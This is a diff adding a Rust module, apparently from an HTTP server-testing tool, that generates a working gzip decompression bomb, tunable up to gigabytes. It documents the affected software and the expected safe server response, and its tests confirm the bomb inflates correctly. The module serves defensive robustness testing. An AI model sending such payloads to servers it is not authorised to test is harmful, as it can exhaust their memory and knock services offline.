@@ -1,0 +1,69 @@
+//! A gzip bomb: zeros, with `Content-Encoding: gzip`.
+//!
+//! *Provokes* middleware that inflates a request before any limit is asked. *Seen in* tornado
+//! (CVE-2026-49855), libwww-perl (CVE-2026-65060), netty's `HttpContentDecompressor`, backdrop (issue
+//! 360). *On the wire* a thousandth of the inflated size (1 GiB is 1.04 MB), *in memory* the inflated size
+//! and, with `decompress()` in one go, twice that. *Safe answer:* 413 or 415; inflating in chunks under a
+//! limit.
+
+use bytes::Bytes;
+
+use super::pieces::once;
+use super::zeros::Deflated;
+
+/// RFC 1952: magic, deflate, no flags, no time, no extra flags, unknown system.
+const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
+
+pub(super) fn size(inflated: u64) -> u64 {
+    Deflated::zeros(inflated).size() + HEADER.len() as u64 + 8
+}
+
+pub(super) fn chunks(inflated: u64) -> impl Iterator<Item = Bytes> + Send {
+    let mut trailer = crc_of_zeros(inflated).to_le_bytes().to_vec();
+    // RFC 1952: the size modulo 2^32.
+    trailer.extend((inflated as u32).to_le_bytes());
+    once(&HEADER[..]).chain(Deflated::zeros(inflated).chunks()).chain(once(trailer))
+}
+
+/// CRC-32 of zeros by doubling: 64 steps for any length.
+fn crc_of_zeros(length: u64) -> u32 {
+    let mut power = crc32fast::Hasher::new();
+    power.update(&[0]);
+    let mut crc = crc32fast::Hasher::new();
+    let mut left = length;
+    while left > 0 {
+        if left & 1 == 1 {
+            crc.combine(&power);
+        }
+        left >>= 1;
+        if left > 0 {
+            power.combine(&power.clone());
+        }
+    }
+    crc.finalize()
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Read;
+
+    use super::*;
+
+    #[test]
+    fn a_real_decoder_inflates_it_to_the_size_and_checks_its_sum() {
+        for size in [0u64, 1, 258, 259, 260, 1032, 70_000, 50_000_000] {
+            let wire: Vec<u8> = chunks(size).flatten().collect();
+            let inflated = std::io::copy(&mut flate2::read::GzDecoder::new(&wire[..]), &mut std::io::sink()).unwrap();
+            assert_eq!(inflated, size);
+        }
+        let mut some = Vec::new();
+        let wire: Vec<u8> = chunks(70_000).flatten().collect();
+        flate2::read::GzDecoder::new(&wire[..]).read_to_end(&mut some).unwrap();
+        assert!(some.iter().all(|byte| *byte == 0));
+    }
+
+    #[test]
+    fn a_gibibyte_is_a_megabyte_on_the_wire() {
+        assert_eq!(size(1 << 30) / 10_000, 104);
+    }
+}
